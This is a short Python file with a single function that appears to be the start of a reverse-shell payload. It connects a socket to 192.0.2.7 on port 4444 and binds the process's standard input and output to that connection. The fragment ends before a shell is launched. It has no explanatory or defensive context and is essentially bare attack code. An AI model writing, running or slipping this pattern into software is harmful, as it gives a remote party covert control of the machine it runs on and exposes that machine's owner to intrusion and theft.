import os
import socket


def run():
    connection = socket.socket()
    connection.connect(('192.0.2.7', 4444))
    os.dup2(connection.fileno(), 0)
    os.dup2(connection.fileno(), 1)
